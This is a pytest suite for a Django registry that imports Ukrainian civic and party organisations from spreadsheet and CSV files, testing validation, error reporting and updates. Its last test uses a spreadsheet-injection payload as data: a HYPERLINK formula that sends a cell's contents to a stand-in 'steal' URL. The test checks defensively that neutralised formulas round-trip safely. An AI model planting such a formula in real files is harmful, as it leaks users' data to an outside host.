import datetime

import pytest

from registry import services
from registry.models import (
    NGO,
    FieldOfActivity,
    Organization,
    OrganizationKind,
    PartyOrganization,
    RegistrationStatus,
)
from registry.resources import DefaultOrganizationResource
from registry.services import Outcome

from .factories import FieldOfActivityFactory, OrganizationFactory, valid_edrpou
from .helpers import csv_bytes, run_import

pytestmark = pytest.mark.django_db


def test_xlsx_made_by_a_spreadsheet_imports_every_field(fixture_bytes):
    report = run_import(fixture_bytes("organizations.xlsx"), "xlsx")

    assert (report.new, report.updated, report.has_errors, report.written) == (3, 0, False, True)
    youth = Organization.objects.get(edrpou="38516849")
    assert youth.name == "Громадська організація «Ніжинська молодь»"
    assert youth.legal_form == "public_organization"
    assert youth.registration_date == datetime.date(2013, 3, 12)
    assert youth.status == RegistrationStatus.REGISTERED
    assert youth.phone == "+380463123456"
    assert youth.website == "https://molod.example.org"
    assert sorted(youth.fields_of_activity.values_list("name", flat=True)) == ["Молодь", "Освіта"]
    party = Organization.objects.get(edrpou="00013480")  # the cell held 13480: the zeros are restored
    assert (party.kind, party.legal_form, party.seats) == (OrganizationKind.PARTY, "party_branch", 6)
    assert party.faction == "Фракція ПП «Приклад»"
    assert Organization.objects.get(edrpou="40075815").status == RegistrationStatus.TERMINATING


def test_windows_1251_semicolon_csv_is_imported(fixture_bytes):
    report = run_import(fixture_bytes("organizations_cp1251.csv"), "csv")

    assert (report.new, report.has_errors) == (3, False)
    charity = Organization.objects.get(edrpou="40075815")
    assert charity.name == "Благодійний фонд «Ніжин — рідне місто»"
    assert charity.legal_form == "charity"
    assert sorted(charity.fields_of_activity.values_list("name", flat=True)) == ["Ветерани", "Культура"]


def test_every_problem_of_a_bad_file_is_reported_with_its_row_and_nothing_is_written(fixture_bytes):
    report = run_import(fixture_bytes("bad_rows.csv"), "csv")

    problems = {(p.row, p.column) for p in report.row_problems}
    assert (3, "Код ЄДРПОУ") in problems  # wrong check digit
    assert (4, "Дата реєстрації") in problems  # 31 February
    assert (5, "") in problems  # empty row
    assert {(6, "Статус"), (6, "Кількість місць у раді"), (6, "Код ЄДРПОУ")} <= problems
    assert (7, "Код ЄДРПОУ") in problems  # the same code as row 2
    assert 2 not in {p.row for p in report.row_problems}
    messages = " ".join(p.message for p in report.row_problems)
    assert "31.02.2015" in messages and "ДД.ММ.РРРР" in messages
    assert "уже є в рядку 2" in messages
    assert report.invalid_rows == [3, 4, 5, 6, 7]
    assert not report.written
    assert Organization.objects.count() == 0


def test_skip_invalid_writes_the_valid_rows_only(fixture_bytes):
    report = run_import(fixture_bytes("bad_rows.csv"), "csv", skip_invalid=True)

    assert report.written and report.invalid_rows == [3, 4, 5, 6, 7]
    assert list(Organization.objects.values_list("name", flat=True)) == ["ГО «Добре»"]


def test_one_bad_code_in_a_large_file_leaves_out_that_row_only():
    lines = ["Назва,Код ЄДРПОУ"] + [f"ГО «Приклад {n}»,{valid_edrpou(n)}" for n in range(200)]
    lines.insert(100, "ГО «Помилка»,38516848")  # row 101 of the file: a wrong check digit

    refused = run_import(csv_bytes(*lines), "csv")
    taken = run_import(csv_bytes(*lines), "csv", skip_invalid=True)

    assert (refused.written, refused.invalid_rows, refused.valid_rows) == (False, [101], 200)
    assert (taken.written, taken.invalid_rows, taken.new) == (True, [101], 200)
    assert Organization.objects.count() == 200


def test_skip_invalid_writes_nothing_when_the_number_left_out_differs_from_the_confirmed_one(fixture_bytes):
    report = run_import(fixture_bytes("bad_rows.csv"), "csv", skip_invalid=True, expected_invalid=4)

    assert not report.written
    assert "пропускав 4 рядки, а тепер помилки мають 5" in " ".join(report.file_errors)
    assert Organization.objects.count() == 0


def test_the_report_says_which_registry_each_row_goes_to(fixture_bytes):
    report = run_import(fixture_bytes("organizations_cp1251.csv"), "csv", default_kind=OrganizationKind.NGO)

    assert {row.edrpou: row.kind for row in report.rows} == {
        "38516849": OrganizationKind.NGO,
        "40075815": OrganizationKind.NGO,
        "00013480": OrganizationKind.PARTY,
    }
    assert services.result_lines(report) == [
        "Громадські об'єднання: додано 2, оновлено 0, без змін 0.",
        "Партійні організації: додано 1, оновлено 0, без змін 0.",
    ]
    assert (NGO.objects.count(), PartyOrganization.objects.count()) == (2, 1)


def test_changed_rows_name_the_columns_they_change(fixture_bytes):
    run_import(fixture_bytes("organizations.xlsx"), "xlsx")
    content = csv_bytes(
        "Назва,Код ЄДРПОУ,Статус,Напрями діяльності",
        "ГО «Нова назва»,38516849,припинено,Молодь; Освіта",
        "Благодійний фонд «Ніжин — рідне місто»,40075815,в стані припинення,Культура; Ветерани",
    )

    report = run_import(content, "csv", dry_run=True)

    changed, unchanged = report.rows
    assert (changed.outcome, unchanged.outcome) == (Outcome.CHANGED, Outcome.UNCHANGED)
    assert [(c.column, c.old, c.new) for c in changed.changes] == [
        ("Назва", "Громадська організація «Ніжинська молодь»", "ГО «Нова назва»"),
        ("Статус", "зареєстровано", "припинено"),
    ]


def test_a_new_list_of_fields_of_activity_is_a_change(fixture_bytes):
    run_import(fixture_bytes("organizations.xlsx"), "xlsx")
    content = csv_bytes("Назва,Код ЄДРПОУ,Напрями діяльності", "ГО,38516849,Молодь")
    content = content.replace("ГО,".encode(), "Громадська організація «Ніжинська молодь»,".encode())

    report = run_import(content, "csv")

    assert [(c.column, c.old, c.new) for c in report.rows[0].changes] == [
        ("Напрями діяльності", "Молодь; Освіта", "Молодь")
    ]
    youth = Organization.objects.get(edrpou="38516849")
    assert list(youth.fields_of_activity.values_list("name", flat=True)) == ["Молодь"]


def test_wrong_columns_are_reported_before_any_row():
    report = run_import("Найменування;Код;Адреса\nГО;38516849;Ніжин\n".encode(), "csv")
    assert report.row_problems == []
    text = " ".join(report.file_errors)
    assert "Невідома колонка «Найменування»" in text
    assert "Бракує обов'язкової колонки «Назва»" in text
    assert "Бракує обов'язкової колонки «Код ЄДРПОУ»" in text


def test_reimport_updates_by_edrpou_and_never_duplicates(fixture_bytes):
    run_import(fixture_bytes("organizations.xlsx"), "xlsx")

    report = run_import(csv_bytes("Назва,Код ЄДРПОУ,Статус", "ГО «Нова назва»,38516849,припинено"), "csv")

    assert (report.new, report.updated, report.has_errors) == (0, 1, False)
    assert Organization.objects.count() == 3
    youth = Organization.objects.get(edrpou="38516849")
    assert (youth.name, youth.status) == ("ГО «Нова назва»", RegistrationStatus.TERMINATED)
    # Columns absent from the file keep their values.
    assert youth.head == "Коваль Олена Петрівна"
    assert youth.fields_of_activity.count() == 2


def test_an_update_stamps_the_organisation(fixture_bytes):
    run_import(fixture_bytes("organizations.xlsx"), "xlsx")
    before = Organization.objects.get(edrpou="38516849").updated_at

    run_import(csv_bytes("Назва,Код ЄДРПОУ", "ГО «Нова назва»,38516849"), "csv")

    assert Organization.objects.get(edrpou="38516849").updated_at > before


def test_known_fields_of_activity_are_matched_and_unknown_ones_created_and_reported():
    FieldOfActivityFactory(name="Молодь")
    content = csv_bytes("Назва,Код ЄДРПОУ,Напрями діяльності", "ГО,38516849,молодь; Спорт")

    preview = run_import(content, "csv", dry_run=True)
    assert preview.created_fields_of_activity == ["Спорт"]
    assert not FieldOfActivity.objects.filter(name="Спорт").exists()

    run_import(content, "csv")
    organization = Organization.objects.get(edrpou="38516849")
    assert sorted(organization.fields_of_activity.values_list("name", flat=True)) == ["Молодь", "Спорт"]
    assert FieldOfActivity.objects.count() == 2


def test_dry_run_writes_nothing(fixture_bytes):
    report = run_import(fixture_bytes("organizations.xlsx"), "xlsx", dry_run=True)
    assert (report.new, report.written) == (3, False)
    assert Organization.objects.count() == 0


def test_reimporting_the_same_file_reports_rows_unchanged_and_writes_nothing(fixture_bytes):
    run_import(fixture_bytes("organizations.xlsx"), "xlsx")
    stamps = dict(Organization.objects.values_list("edrpou", "updated_at"))

    report = run_import(fixture_bytes("organizations_cp1251.csv"), "csv")

    assert (report.new, report.updated, report.unchanged) == (0, 0, 3)
    assert dict(Organization.objects.values_list("edrpou", "updated_at")) == stamps


def test_default_resource_path_reports_the_same_problems(fixture_bytes):
    report = run_import(fixture_bytes("bad_rows.csv"), "csv", resource_class=DefaultOrganizationResource)
    assert report.invalid_rows == [3, 4, 5, 6, 7]


def test_default_resource_path_imports_the_same_organisations(fixture_bytes):
    run_import(fixture_bytes("organizations.xlsx"), "xlsx", resource_class=DefaultOrganizationResource)
    youth = Organization.objects.get(edrpou="38516849")
    assert sorted(youth.fields_of_activity.values_list("name", flat=True)) == ["Молодь", "Освіта"]
    assert Organization.objects.count() == 3


def test_a_name_neutralised_by_an_export_imports_back_as_it_was():
    OrganizationFactory(name="ГО", edrpou="38516849")
    name = '=HYPERLINK("http://x.example/steal?d="&A1,"Натисніть")'

    quoted = "\"'" + name.replace('"', '""') + '"'

    run_import(csv_bytes("Назва,Код ЄДРПОУ", f"{quoted},38516849"), "csv")

    assert Organization.objects.get(edrpou="38516849").name == name
